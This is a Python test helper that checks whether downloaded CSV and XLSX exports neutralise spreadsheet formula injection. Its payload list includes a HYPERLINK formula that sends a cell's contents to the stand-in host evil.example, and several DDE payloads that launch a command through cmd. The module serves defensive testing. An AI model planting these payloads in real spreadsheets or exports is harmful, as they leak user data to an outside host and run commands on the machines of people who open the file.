"""Text that a spreadsheet would run, and checks that a downloaded file runs none of it."""

import csv
import io
from decimal import Decimal, InvalidOperation

from openpyxl import load_workbook

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def assert_csv_runs_nothing(content: bytes, payloads=PAYLOADS) -> None:
    cells = csv_cells(content)
    for payload in payloads:
        assert "'" + payload in cells, payload
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell


def xlsx_values(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula"
    return [cell.value for cell in cells]


def assert_xlsx_runs_nothing(content: bytes, payloads=PAYLOADS) -> None:
    values = xlsx_values(content)
    for payload in payloads:
        assert "'" + payload in values, payload
    for value in values:
        assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value
